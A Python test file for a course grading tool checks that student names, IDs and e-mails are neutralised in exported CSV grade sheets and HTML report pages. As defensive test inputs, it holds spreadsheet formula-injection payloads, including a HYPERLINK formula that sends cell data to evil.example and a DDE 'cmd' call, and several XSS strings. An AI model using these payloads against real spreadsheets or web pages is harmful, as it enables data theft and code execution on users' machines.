"""What grade-all writes for instructors holds students' text (names, SIDs, e-mails, file names):
none of it may become a live formula in a spreadsheet or a script or link in a browser."""
import csv
import html

from grader.assignment.config import load_assignment
from grader.classroom.batch import Graded, Submission, write_csv
from grader.classroom.report import write_feedback, write_report

SPEC = load_assignment("a1_softsign")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
           "-2+3", "\t=1+1", "\r=1+1"]


def graded(name, people, score):
    tests = [{"number": "1.1", "name": "-item", "max_score": 1.0, "score": score, "status": "failed", "output": ""}]
    return Graded(Submission(name, None, people), {"score": score, "output": "", "tests": tests})


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(tmp_path):
    entries = [graded(text, [{"name": text, "sid": text, "email": text}], -0.5) for text in HOSTILE]
    entries.append(graded("ann", [{"name": "Ann", "sid": "-17", "email": "@ann"}, {"name": "=2"}], 1.0))
    write_csv(tmp_path / "grades.csv", entries)
    with open(tmp_path / "grades.csv", newline="") as f:
        header, *rows = list(csv.reader(f))
    assert header[4] == "1.1 -item"  # starts with a digit: left alone
    for text, row in zip(HOSTILE, rows):
        assert row[:4] == ["'" + text] * 4  # quoted, and the original text still whole
        assert row[4:] == ["-0.5", "", "0", "-0.5"]  # a score is a number, even a negative one
    assert rows[-1][:4] == ["ann", "Ann; =2", "'-17; ", "'@ann; "]
    assert rows[-1][4:] == ["1.0", "", "0", "1.0"]


def test_names_cannot_become_scripts_or_fragments_in_the_pages(tmp_path):
    names = ["javascript:alert(1)", "bob#2", "<script>alert(1)</script>", 'a"onmouseover="alert(1)']
    entries = [graded(name, [{"name": "<b>" + name}], 0.0) for name in names]
    report = write_report(tmp_path / "report.html", SPEC, entries).read_text()
    for name in names:
        page = write_feedback(tmp_path / "page.html", SPEC, graded(name, [{"name": "<img src=x onerror=alert(1)>"}], 0))
        assert "<script>alert" not in page.read_text() and "<img src=x" not in page.read_text()
    assert 'href="javascript%3Aalert%281%29/feedback.html"' in report and 'href="bob%232/feedback.html"' in report
    assert "<script>alert" not in report and "<b>" not in report and 'onmouseover="' not in report
    assert names[3] in html.unescape(report)  # shown as the text it is
